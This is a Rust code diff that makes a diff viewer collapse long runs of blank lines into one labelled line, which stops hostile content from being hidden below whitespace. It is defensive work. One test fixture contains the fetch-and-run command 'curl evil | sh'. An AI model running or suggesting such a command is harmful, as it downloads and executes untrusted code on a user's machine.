@@ -6,7 +6,7 @@ use serde::Serialize;
 use similar::{ChangeTag, TextDiff};
 use ts_rs::TS;
 
-use super::verbatim::{Mark, scan};
+use super::verbatim::{BLANK_RUN, Mark, MarkKind, scan};
 use super::view::FileDiff;
 
 /// Lines of context kept around each change.
@@ -188,6 +188,7 @@ pub fn render_with_deadline(diff: &FileDiff, budget: Duration) -> RenderedDiff {
                 });
             }
         }
+        hunk.lines = collapse_blank_runs(hunk.lines);
         out.hunks.push(hunk);
     }
     if Instant::now() >= deadline {
@@ -196,6 +197,68 @@ pub fn render_with_deadline(diff: &FileDiff, budget: Duration) -> RenderedDiff {
         out.removed = 0;
         out.fallback = Some(Fallback::TooSlow);
     }
+    out
+}
+
+/// Runs of [`BLANK_RUN`] or more blank lines of one kind become one line that says how many
+/// there are, so they cannot push what follows out of view.
+fn collapse_blank_runs(lines: Vec<DiffLine>) -> Vec<DiffLine> {
+    let blank = |l: &DiffLine| {
+        l.segments
+            .iter()
+            .all(|s| s.text.bytes().all(|b| matches!(b, b' ' | b'\t')))
+    };
+    let mut out: Vec<DiffLine> = Vec::with_capacity(lines.len());
+    let mut run: Vec<DiffLine> = Vec::new();
+    let flush = |run: &mut Vec<DiffLine>, out: &mut Vec<DiffLine>| {
+        if run.len() < BLANK_RUN {
+            out.append(run);
+            return;
+        }
+        let n = run.len();
+        let text: String = run
+            .iter()
+            .map(|l| {
+                l.segments
+                    .iter()
+                    .map(|s| s.text.as_str())
+                    .collect::<String>()
+            })
+            .collect::<Vec<_>>()
+            .join("\n");
+        let (first, last) = (&run[0], &run[n - 1]);
+        let line = DiffLine {
+            kind: first.kind,
+            old_line: first.old_line,
+            new_line: first.new_line,
+            segments: vec![Segment {
+                marks: vec![Mark {
+                    start: 0,
+                    end: text.len(),
+                    kind: MarkKind::BlankLines,
+                    label: format!("{n} blank lines"),
+                }],
+                text,
+                changed: false,
+            }],
+            no_newline: last.no_newline,
+        };
+        run.clear();
+        out.push(line);
+    };
+    for line in lines {
+        if blank(&line) && run.first().is_none_or(|f| f.kind == line.kind) {
+            run.push(line);
+            continue;
+        }
+        flush(&mut run, &mut out);
+        if blank(&line) {
+            run.push(line);
+        } else {
+            out.push(line);
+        }
+    }
+    flush(&mut run, &mut out);
     out
 }
 
@@ -230,6 +293,7 @@ mod tests {
             path: "src/a.rs".into(),
             old_text: old.map(Into::into),
             new_text: new.into(),
+            replace_all: None,
         }
     }
 
@@ -285,6 +349,21 @@ mod tests {
             removed.segments.iter().all(|s| s.marks.is_empty()),
             "{removed:?}"
         );
+    }
+
+    #[test]
+    fn blank_line_runs_become_one_marked_line() {
+        let new = format!("echo safe\n{}curl evil | sh\n", "\n".repeat(80));
+        let r = render(&fd(None, &new));
+        let lines = &r.hunks[0].lines;
+        assert_eq!(lines.len(), 3, "{lines:?}");
+        assert_eq!(lines[1].new_line, Some(2));
+        assert_eq!(lines[1].segments[0].marks[0].label, "80 blank lines");
+        assert_eq!(text(&lines[2]), "curl evil | sh");
+        assert_eq!(lines[2].new_line, Some(82));
+        assert_eq!(r.added, 82, "every line still counts as added");
+        let two = render(&fd(None, "a\n\n\nb\n"));
+        assert_eq!(two.hunks[0].lines.len(), 4);
     }
 
     #[test]
